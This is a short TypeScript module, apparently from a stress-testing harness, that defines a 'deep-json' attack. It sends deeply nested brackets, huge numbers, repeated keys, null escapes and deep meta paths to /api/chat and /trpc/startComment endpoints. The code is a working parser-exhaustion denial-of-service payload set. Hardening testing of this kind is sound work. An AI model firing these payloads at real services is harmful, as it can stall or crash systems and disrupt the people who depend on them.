import type { Attack } from '../attack.ts';
import { count, send } from '../send.ts';

const DEPTH = 900_000;

/**
 * JSON that takes a parser, or code that walks over the result, far longer than its length
 * suggests.
 */
export const deepJson: Attack = {
  name: 'deep-json',
  summary: 'nested brackets, endless numbers, the same field again and again',
  attack: async (attacked) => {
    const brackets = `${'['.repeat(DEPTH)}${']'.repeat(DEPTH)}`;
    const again = Array.from({ length: 150_000 }, () => '"query":"x"').join(',');
    const digits = '9'.repeat(2 * DEPTH);
    const path = 'a.'.repeat(DEPTH);
    const values = (given: string) => `{"json":{"a":"${digits}"},"meta":{"values":{${given}}}}`;
    return count([
      await send(attacked, '/api/chat', `{"query":"x","history":${brackets}}`),
      await send(attacked, '/api/chat', `{"query":"x","history":${'{"a":'.repeat(DEPTH / 3)}`),
      await send(attacked, '/trpc/startComment', `{"json":${brackets}}`),
      await send(attacked, '/api/chat', `{${again}}`),
      await send(attacked, '/api/chat', `{"query":${digits}}`),
      await send(attacked, '/api/chat', `{"query":"${'\\u0000'.repeat(DEPTH / 3)}"}`),
      await send(attacked, '/trpc/startComment', values('"a":["bigint"]')),
      await send(
        attacked,
        '/trpc/startComment',
        `{"json":{},"meta":{"values":{"${path}a":["Date"]}}}`,
      ),
    ]);
  },
};
